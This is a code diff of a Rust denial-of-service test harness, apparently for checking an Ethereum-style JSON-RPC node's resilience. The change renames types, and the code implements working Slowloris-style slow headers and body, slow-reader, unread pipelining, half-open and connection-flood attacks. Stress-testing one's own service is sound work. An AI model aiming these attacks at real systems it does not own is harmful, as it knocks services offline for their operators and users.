@@ -13,7 +13,7 @@ use tokio::{
     time::{sleep, timeout},
 };
 
-use super::attack::{Attack, Face, Facts, Field};
+use super::attack::{Attack, AttackContext, AttackInfo, AttackSurface};
 
 pub(super) const ALL: &[&dyn Attack] =
     &[&SlowHeaders, &SlowBody, &SlowReader, &HalfOpen, &ConnectionFlood, &EndlessHeaders, &PipelineUnread];
@@ -41,7 +41,7 @@ pub(super) fn post(bytes: usize) -> String {
 }
 
 /// Sends a JSON-RPC body and reads the head of the answer, and then all that comes within a while.
-pub(super) async fn call(field: &Field, from: IpAddr, body: &str) -> Result<()> {
+pub(super) async fn call(field: &AttackContext, from: IpAddr, body: &str) -> Result<()> {
     let mut stream = connect(field.target.api, from).await?;
     stream.write_all(post(body.len()).as_bytes()).await?;
     stream.write_all(body.as_bytes()).await?;
@@ -62,18 +62,18 @@ pub(super) async fn linger(stream: &mut TcpStream) {
 struct SlowHeaders;
 
 impl Attack for SlowHeaders {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "slow-headers",
             "400 connections that send one byte of their headers per second",
         )
         .quick()
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").await?;
             field.tally.done();
             loop {
@@ -87,17 +87,17 @@ impl Attack for SlowHeaders {
 struct SlowBody;
 
 impl Attack for SlowBody {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "slow-body",
             "400 connections that announce a body and send one byte of it per second",
         )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all(post(1 << 20).as_bytes()).await?;
             field.tally.done();
             loop {
@@ -109,7 +109,7 @@ impl Attack for SlowBody {
 }
 
 /// Returns a request with a long answer: a batch with all of its transactions.
-fn heavy_question(field: &Field) -> String {
+fn heavy_question(field: &AttackContext) -> String {
     let number = field.target.heavy_batch;
     format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["{number:#x}",true]}}"#)
 }
@@ -117,17 +117,17 @@ fn heavy_question(field: &Field) -> String {
 struct SlowReader;
 
 impl Attack for SlowReader {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "slow-reader",
             "60 connections that request a long answer and read 100 bytes of it per second",
         )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             let body = heavy_question(&field);
             stream.write_all((post(body.len()) + &body).as_bytes()).await?;
             let mut some = [0; 100];
@@ -143,14 +143,14 @@ impl Attack for SlowReader {
 struct PipelineUnread;
 
 impl Attack for PipelineUnread {
-    fn facts(&self) -> Facts {
+    fn facts(&self) -> AttackInfo {
         let about = "60 connections that keep requesting a long answer and read nothing";
-        Facts::new(Face::Http, "pipeline-unread", about)
+        AttackInfo::new(AttackSurface::Http, "pipeline-unread", about)
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             let body = heavy_question(&field);
             let request = post(body.len()) + &body;
             // The kernel buffers this much; then the node does not read on.
@@ -167,13 +167,17 @@ impl Attack for PipelineUnread {
 struct HalfOpen;
 
 impl Attack for HalfOpen {
-    fn facts(&self) -> Facts {
-        Facts::new(Face::Http, "half-open", "1,000 silent connections, half of them closed for writing")
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
+            "half-open",
+            "1,000 silent connections, half of them closed for writing",
+        )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(1_000, Duration::from_secs(1), |field, index| async move {
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             field.tally.done();
             if index % 2 == 0 {
                 stream.shutdown().await?;
@@ -187,13 +191,17 @@ impl Attack for HalfOpen {
 struct ConnectionFlood;
 
 impl Attack for ConnectionFlood {
-    fn facts(&self) -> Facts {
-        Facts::new(Face::Http, "connection-flood", "2,000 connections a second that are opened and dropped")
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
+            "connection-flood",
+            "2,000 connections a second that are opened and dropped",
+        )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(40, Duration::from_millis(20), |field, index| async move {
-            let stream = connect(field.target.api, Field::address(index)).await?;
+            let stream = connect(field.target.api, AttackContext::address(index)).await?;
             // Resets instead of closing, so that no port of the attackers stays in TIME_WAIT.
             stream.set_zero_linger()?;
             Ok(())
@@ -204,17 +212,17 @@ impl Attack for ConnectionFlood {
 struct EndlessHeaders;
 
 impl Attack for EndlessHeaders {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "endless-headers",
             "50 connections that send endless headers, as fast as the node reads",
         )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(50, Duration::from_millis(100), |field, index| async move {
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\n").await?;
             let line = format!("X-Endless: {}\r\n", "a".repeat(8_000));
             loop {
